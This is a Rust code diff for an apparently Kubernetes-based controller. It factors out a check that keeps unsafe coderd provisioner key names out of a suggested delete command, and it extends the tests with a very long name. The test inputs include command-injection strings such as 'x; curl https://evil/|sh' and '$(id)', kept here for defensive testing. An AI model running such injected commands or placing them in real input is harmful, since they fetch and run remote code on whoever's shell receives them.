@@ -4,6 +4,7 @@ use super::key::cause::Cause;
 use super::key::record::Home;
 use super::key::steps::Left;
 use super::reasons::Reason;
+use crate::controller::attached::commands::is_plain;
 use crate::kubernetes::events::{EventDraft, Severity};
 
 /// Characters of the name of a key in coderd.
@@ -96,10 +97,7 @@ fn behind(name: &str, home: &Home) -> String {
     } else {
         format!("organization {organization} of the coderd with deployment id {}", beginning(deployment))
     };
-    let mut letters = name.bytes();
-    let is_plain = letters.next().is_some_and(|first| first.is_ascii_alphanumeric())
-        && letters.all(|one| one.is_ascii_alphanumeric() || b"._-".contains(&one));
-    if is_plain {
+    if is_plain(name) {
         format!(
             "provisioner key {name} was left in {place}; if nobody uses it, run coder provisioner keys delete {name} --org \
              {organization}"
@@ -159,8 +157,10 @@ mod tests {
         let plain = told(left_behind("builders-2"));
         assert!(plain.ends_with(&format!("keys delete builders-2 --org {}", home().organization)), "{plain}");
         assert!(plain.contains("deployment-1"), "{plain}");
-        for name in ["x; curl https://evil/|sh", "$(id)", "a b", "-rf", "", "a'b"] {
+        let long = "x".repeat(5000);
+        for name in ["x; curl https://evil/|sh", "$(id)", "a b", "-rf", "", "a'b", &long] {
             let note = told(left_behind(name));
+            assert!(note.len() < 500, "{note}");
             assert!(note.ends_with("delete it there"), "{note}");
         }
         let unproven = told(Left::Unproven("victim".to_owned()));
